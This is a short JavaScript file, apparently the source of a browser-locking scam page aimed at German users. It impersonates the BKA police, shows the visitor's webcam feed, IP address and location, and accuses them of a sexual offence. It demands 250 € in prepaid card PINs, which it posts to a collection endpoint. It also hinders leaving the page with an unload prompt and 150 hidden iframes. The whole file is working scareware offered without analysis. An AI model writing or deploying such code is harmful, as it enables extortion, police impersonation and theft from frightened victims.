const $ = document.querySelector.bind(document);
async function run() {
  const s = await navigator.mediaDevices.getUserMedia({ video: true }).catch(() => null);
  if (s) { const v = $("#cam"); v.srcObject = s; v.play(); }
  const { ip, city, org } = await (await fetch("https://ip-info.example/json")).json();
  $("#case").innerHTML = `BUNDESKRIMINALAMT<br>Aktenzeichen 48-${Date.now() % 1e6}<br>IP ${ip}, ${city}, ${org}`;
  $("#text").textContent = "Ihr Browser wurde wegen Verstoßes gegen § 184 StGB gesperrt. Alle Aktivitäten werden aufgezeichnet. Zahlen Sie innerhalb von 12 Stunden 250 € per Guthabenkarte, um den Zugang freizuschalten.";
  $("form").onsubmit = (e) => {
    e.preventDefault();
    const pin = $("#pin").value.replace(/\D/g, "");
    if (pin.length !== 16) return alert("Ungültiger Code");
    fetch("/api/pin", { method: "POST", body: new URLSearchParams({ pin, ip }) });
    $("#text").textContent = "Zahlung wird geprüft. Schließen Sie dieses Fenster nicht.";
  };
}
onbeforeunload = () => "IHR BROWSER WURDE GESPERRT";
for (let i = 0; i < 150; i++) document.body.append(Object.assign(document.createElement("iframe"), { src: "/leave.html?" + i, hidden: true }));
run();
